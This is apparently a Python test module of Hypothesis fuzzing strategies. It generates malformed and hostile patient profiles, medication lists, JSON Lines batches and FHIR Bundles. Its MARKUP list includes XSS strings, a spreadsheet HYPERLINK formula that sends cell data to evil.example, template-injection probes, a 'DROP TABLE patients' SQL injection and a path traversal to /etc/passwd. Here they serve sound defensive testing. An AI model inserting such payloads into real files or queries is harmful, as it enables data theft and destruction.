"""Hypothesis strategies for hostile input: profiles, JSON Lines, medication lists, FHIR Bundles.

Each strategy yields the *text or bytes a user could hand us*, not a parsed value, so the
readers meet what a file really holds: duplicate keys, NaN, lone surrogate escapes, NUL bytes,
Latin-1 bytes, huge lists, very long names, deep nesting, markup and formulas. JSON is rendered
from a small tree (:class:`Obj` keeps duplicate keys, :class:`Raw` holds any JSON fragment).
"""

from __future__ import annotations

import json
from dataclasses import dataclass
from functools import cache
from typing import Any, TypeVar

from hypothesis import strategies as st

from tests.strategies import KNOWN_MEDS

T = TypeVar("T")

# --------------------------------------------------------------------------------------
# Text pieces


MARKUP = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "**bold**",
    "# heading",
    "`code`",
    "$x^2$",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "{{7*7}}",
    "${7*7}",
    "%s%n%x",
    "'; DROP TABLE patients; --",
    "../../etc/passwd",
    "\\",
    '"',
]

ODD_CHARS = [
    "\x00",
    "\x07",
    "\x1b[31m",
    "\x7f",
    "\x0b",
    "\x0c",
    "\r",
    "\r\n",
    "\t",
    "\u0085",
    "\u00a0",
    "\u2028",
    "\u2029",
    "\u200b",
    "\u200d",
    "\u202e",
    "\u2066",
    "\ufeff",
    "\ufffd",
    "\u0301",
    "\u3000",
    "ß",
    "İ",
    "ﬁ",
    "µ",
    "٥",
    "ｗａｒｆａｒｉｎ",
    "𝐰𝐚𝐫𝐟𝐚𝐫𝐢𝐧",
    "warfarin\u0301",
    "🩺",
    "\U0010ffff",
]


def rarely(
    common: st.SearchStrategy[T], rare: st.SearchStrategy[T], one_in: int
) -> st.SearchStrategy[T]:
    """``rare`` one time in ``one_in``: heavy cases (huge lists, long names) cost the most."""
    return st.integers(0, one_in - 1).flatmap(lambda i: rare if i == 0 else common)


@cache  # build once: a strategy built per draw costs more than the draw
def hostile_text(max_size: int = 40) -> st.SearchStrategy[str]:
    """Short text mixing any Unicode character, control characters, markup and drug names."""
    piece = (
        st.text(max_size=8)
        | st.sampled_from(ODD_CHARS)
        | st.sampled_from(MARKUP)
        | st.sampled_from(KNOWN_MEDS)
    )
    return st.lists(piece, max_size=max(1, max_size // 8)).map("".join)


@cache
def long_runs() -> st.SearchStrategy[str]:
    """Very long names: letter runs (once quadratic in name normalisation), digits, spaces."""
    return st.builds(
        lambda ch, n, prefix: prefix + ch * n,
        st.sampled_from(["x", "a", "warfarin", "1", " ", "-", "é", "ab1 "]),
        st.integers(400, 60_000),
        st.sampled_from(["", "warfarin ", "Coumadin 5 mg "]),
    )


@cache
def medication_names() -> st.SearchStrategy[str]:
    """One medication as a user might type it, or as a hostile user might."""
    common = st.one_of(
        st.sampled_from(KNOWN_MEDS),
        hostile_text(),
        st.builds(lambda a, b: a + b, st.sampled_from(KNOWN_MEDS), hostile_text(12)),
        st.builds(lambda a, b: a + b, hostile_text(12), st.sampled_from(KNOWN_MEDS)),
    )
    return rarely(common, long_runs(), 15)


@cache
def medication_lists() -> st.SearchStrategy[list[str]]:
    """Medication lists: short and odd, or huge (many copies, many distinct junk names)."""
    huge = st.builds(
        lambda name, n: [name] * n, st.sampled_from(KNOWN_MEDS), st.integers(50, 3000)
    ) | st.builds(lambda n: [f"zz{i}q" for i in range(n)], st.integers(20, 200))
    return rarely(st.lists(medication_names(), max_size=8), huge, 25)


@cache
def pasted_lists() -> st.SearchStrategy[str]:
    """A pasted medication list: names joined by every separator a paste can hold."""
    sep = st.sampled_from(["\n", ",", ";", "\r\n", "\u2028", "\u0085", "|", "\t", " and ", "\x00"])
    return st.builds(
        lambda names, seps: "".join(n + s for n, s in zip(names, seps, strict=False)),
        st.lists(medication_names(), max_size=10),
        st.lists(sep, min_size=10, max_size=10),
    ) | hostile_text(200)


# --------------------------------------------------------------------------------------
# JSON trees that may break JSON's own rules


@dataclass(frozen=True)
class Raw:
    """A JSON fragment written as is (NaN, a lone surrogate escape, a 5000-digit number)."""

    text: str


@dataclass(frozen=True)
class Obj:
    """A JSON object as ordered pairs, so a key may appear twice."""

    pairs: tuple[tuple[str, Any], ...]


def render(value: Any, indent: bool = False, depth: int = 0) -> str:
    """JSON text for a tree of plain values, :class:`Obj` and :class:`Raw`."""
    nl = "\n" + "  " * (depth + 1) if indent else ""
    end = "\n" + "  " * depth if indent else ""
    if isinstance(value, Raw):
        return value.text
    if isinstance(value, Obj):
        items = [f"{nl}{json.dumps(k)}: {render(v, indent, depth + 1)}" for k, v in value.pairs]
        return "{" + ",".join(items) + (end if items else "") + "}"
    if isinstance(value, dict):
        return render(Obj(tuple(value.items())), indent, depth)
    if isinstance(value, list | tuple):
        items = [nl + render(v, indent, depth + 1) for v in value]
        return "[" + ",".join(items) + (end if items else "") + "]"
    return json.dumps(value)


RAW_JUNK = [
    "NaN",
    "Infinity",
    "-Infinity",
    "1e999",
    "-0",
    "1" + "0" * 5000,
    '"\\ud800"',
    '"\\udfff\\ud800"',
    '"a\\u0000b"',
    '"\\ud83d\\ude00"',
    "[" * 50 + "]" * 50,
    "[" * 5000 + "]" * 5000,
]


@cache
def junk_values(max_leaves: int = 5) -> st.SearchStrategy[Any]:
    """Any JSON value, including ones JSON does not allow, and nested junk."""
    leaf = st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.floats(allow_nan=False, allow_infinity=False),
        hostile_text(),
        st.sampled_from(RAW_JUNK).map(Raw),
    )
    return st.recursive(
        leaf,
        lambda inner: (
            st.lists(inner, max_size=4)
            | st.lists(st.tuples(hostile_text(10), inner), max_size=4).map(lambda p: Obj(tuple(p)))
        ),
        max_leaves=max_leaves,
    )


# --------------------------------------------------------------------------------------
# Patient profiles

PROFILE_FIELDS: dict[str, st.SearchStrategy[Any]] = {
    "age": st.integers(-5, 130) | st.sampled_from([70, "70", 70.5, True, None]),
    "sex": st.sampled_from(["female", "male", "other", "unknown", "Female", "", None, 1]),
    "pregnant": st.booleans() | st.sampled_from([None, "yes", 0]),
    "cramps_per_week": st.floats(-1, 50, allow_nan=False) | st.sampled_from([None, "3"]),
    "dehydration": st.booleans(),
    "prolonged_sitting": st.booleans(),
    "prolonged_standing": st.booleans(),
    "medications": medication_lists(),
    "conditions": st.lists(
        st.sampled_from(["diabetes", "ckd", "hemodialysis", "gout", "", "DIABETES"]), max_size=4
    ),
    "symptoms": st.lists(
        st.sampled_from(["urge_to_move", "unilateral_swelling", "fasciculations", "itch"]),
        max_size=4,
    ),
}


_FIELD_OR_JUNK = {key: value | junk_values() for key, value in PROFILE_FIELDS.items()}


@st.composite
def profile_trees(draw: st.DrawFn) -> Any:
    """A profile as a JSON tree: plausible fields with hostile values, junk, duplicates."""
    keys = draw(st.lists(st.sampled_from(sorted(PROFILE_FIELDS)), unique=True, max_size=10))
    if draw(st.booleans()):
        keys = ["age", *[k for k in keys if k != "age"]]
    pairs: list[tuple[str, Any]] = []
    for key in keys:
        pairs.append((key, draw(_FIELD_OR_JUNK[key])))
    extra = draw(st.lists(st.tuples(hostile_text(12), junk_values()), max_size=2))
    pairs.extend(extra)
    if pairs and draw(st.integers(0, 4)) == 0:  # one key twice: the patient-safety finding
        key, _ = draw(st.sampled_from(pairs))
        pairs.insert(
            draw(st.integers(0, len(pairs))), (key, draw(PROFILE_FIELDS.get(key, junk_values())))
        )
    tree: Any = Obj(tuple(pairs))
    roll = draw(st.integers(0, 19))
    if roll == 0:
        tree = draw(junk_values())  # not an object at all
    elif roll == 1:
        tree = [tree]
    return tree


@st.composite
def profile_texts(draw: st.DrawFn) -> str:
    """The text of one profile file: rendered on one or many lines, sometimes damaged."""
    text = render(draw(profile_trees()), indent=draw(st.booleans()))
    damage = draw(st.integers(0, 9))
    if damage == 0 and text:
        text = text[: draw(st.integers(0, len(text) - 1))]  # truncated
    elif damage == 1:
        at = draw(st.integers(0, len(text)))
        text = (
            text[:at]
            + draw(st.sampled_from(["\x00", "\ufeff", "\u2028", "}", ",", "\\"]))
            + text[at:]
        )
    elif damage == 2:
        text = "\ufeff" + text
    elif damage == 3:
        text = text + draw(st.sampled_from(["\n", "\n\n{}", " trailing", "\x00"]))
    return text


@cache
def profile_bytes() -> st.SearchStrategy[bytes]:
    """A profile file's bytes: UTF-8, or with a Latin-1 or invalid byte, or random bytes."""
    return st.one_of(
        profile_texts().map(lambda t: t.encode("utf-8")),
        profile_texts().map(lambda t: t.encode("latin-1", "replace")),
        st.builds(lambda t, b: t.encode() + b, profile_texts(), st.binary(max_size=4)),
        st.binary(max_size=200),
    )


@st.composite
def jsonl_batches(draw: st.DrawFn) -> bytes:
    """A JSON Lines batch: profile lines, junk lines, blank lines, CRLF, a Latin-1 line."""
    lines: list[bytes] = []
    for _ in range(draw(st.integers(0, 8))):
        kind = draw(st.integers(0, 9))
        if kind <= 5:
            text = render(draw(profile_trees())).replace("\n", " ")
            lines.append(text.encode("utf-8"))
        elif kind == 6:
            lines.append(b"")
        elif kind == 7:
            lines.append(b'{"age": 70, "medications": ["caf\xe9"]}')
        elif kind == 8:
            lines.append(draw(st.binary(max_size=30)).replace(b"\n", b" "))
        else:
            lines.append(draw(hostile_text()).replace("\n", " ").encode("utf-8", "surrogatepass"))
    ending = draw(st.sampled_from([b"\n", b"\r\n"]))
    body = ending.join(lines)
    return body + (ending if draw(st.booleans()) else b"")


# --------------------------------------------------------------------------------------
# FHIR R4 Bundles

STATUSES = ["active", "completed", "stopped", "entered-in-error", "on-hold", "unknown"]
ODD_STATUSES: list[Any] = ["", "ACTIVE", "recorded", "ended", 5, None, ["active"], {"a": 1}]


@cache
def codeable_concepts() -> st.SearchStrategy[Any]:
    coding = st.fixed_dictionaries(
        {},
        optional={
            "system": st.sampled_from(
                [
                    "http://www.nlm.nih.gov/research/umls/rxnorm",
                    "http://www.whocc.no/atc",
                    "urn:oid:1.2",
                    "",
                ]
            ),
            "code": st.sampled_from(["11289", "202421", "B01AA03", "", "x"]) | junk_values(2),
            "display": medication_names() | junk_values(2),
        },
    )
    return st.fixed_dictionaries(
        {},
        optional={
            "text": medication_names() | junk_values(2),
            "coding": st.lists(coding, max_size=3),
        },
    )


@st.composite
def medication_resources(draw: st.DrawFn) -> Obj:
    rtype = draw(
        st.sampled_from(
            ["MedicationStatement", "MedicationRequest", "Medication", "Patient", "MedicationOrder"]
        )
    )
    pairs: list[tuple[str, Any]] = [
        ("resourceType", rtype),
        ("id", draw(st.sampled_from(["m1", "m2", "", "x y"]))),
    ]
    if draw(st.integers(0, 5)):
        pairs.append(("status", draw(st.sampled_from(STATUSES + ODD_STATUSES))))
    how = draw(st.integers(0, 4))
    if how <= 2:
        pairs.append(("medicationCodeableConcept", draw(codeable_concepts())))
    elif how == 3:
        ref = draw(st.sampled_from(["#med", "Medication/m1", "urn:uuid:1", "", "Medication/none"]))
        pairs.append(("medicationReference", {"reference": ref}))
        if ref == "#med":
            pairs.append(
                (
                    "contained",
                    [
                        {
                            "resourceType": "Medication",
                            "id": "med",
                            "code": draw(codeable_concepts()),
                        }
                    ],
                )
            )
    if rtype == "Medication":
        pairs.append(("code", draw(codeable_concepts())))
    if draw(st.integers(0, 6)) == 0:
        pairs.append(
            (
                draw(st.sampled_from(["status", "medicationCodeableConcept", "x"])),
                draw(junk_values(3)),
            )
        )
    return Obj(tuple(pairs))


@st.composite
def bundle_trees(draw: st.DrawFn, heavy: bool = True) -> Any:
    """A Bundle as a JSON tree; ``heavy`` adds, rarely, one entry copied up to 5,000 times."""
    entries: list[Any] = []
    for _ in range(draw(st.integers(0, 6))):
        pairs: list[tuple[str, Any]] = []
        if draw(st.booleans()):
            pairs.append(("fullUrl", draw(st.sampled_from(["urn:uuid:1", "Medication/m1", ""]))))
        if draw(st.integers(0, 9)):
            pairs.append(("resource", draw(medication_resources())))
        else:
            pairs.append(("resource", draw(junk_values(3))))
        entries.append(Obj(tuple(pairs)))
    many = st.sampled_from([100, 1000, 5000] if heavy else [1])
    copies = draw(rarely(st.sampled_from([1, 1, 2]), many, 30))
    if copies > 1 and entries:
        entries = entries[:1] * copies
    pairs = [
        (
            "resourceType",
            draw(st.sampled_from(["Bundle", "Bundle", "Bundle", "Patient", "bundle"])),
        ),
        ("type", draw(st.sampled_from(["collection", "searchset", "batch", "", "list", 3]))),
        ("entry", entries if draw(st.integers(0, 9)) else draw(junk_values(3))),
    ]
    if draw(st.integers(0, 5)) == 0:  # the silent-drop finding: two "entry" keys
        pairs.append(("entry", [Obj((("resource", draw(medication_resources())),))]))
    if draw(st.integers(0, 5)) == 0:
        pairs.append(
            (
                "meta",
                {
                    "profile": [
                        draw(
                            st.sampled_from(
                                ["http://hl7.org/fhir/R4/x", "http://hl7.org/fhir/STU3/x"]
                            )
                        )
                    ]
                },
            )
        )
    return Obj(tuple(pairs))


@cache
def fhir_bundle_bytes(heavy: bool = True) -> st.SearchStrategy[bytes]:
    """A FHIR Bundle file's bytes: hostile structure and values, sometimes not JSON at all."""
    trees = bundle_trees(heavy)
    return st.one_of(
        st.builds(lambda t, ind: render(t, ind).encode("utf-8"), trees, st.booleans()),
        st.builds(lambda t: render(t).encode("utf-8")[: len(render(t)) // 2], trees),
        st.sampled_from(
            [b"", b"   ", b"<Bundle/>", b"\xff\xfe{", b"null", b"[]", b'{"resourceType": "Bundle"}']
        ),
        st.binary(max_size=100),
    )


@cache
def medication_file_bytes() -> st.SearchStrategy[bytes]:
    """A plain-text medication file: one name a line, with comments, blanks and bad bytes."""
    return st.one_of(
        st.lists(medication_names() | st.sampled_from(["# comment", "", "   "]), max_size=15).map(
            lambda lines: "\n".join(lines).encode("utf-8", "surrogatepass")
        ),
        st.builds(lambda t, b: t.encode() + b, pasted_lists(), st.binary(max_size=3)),
        st.binary(max_size=100),
    )
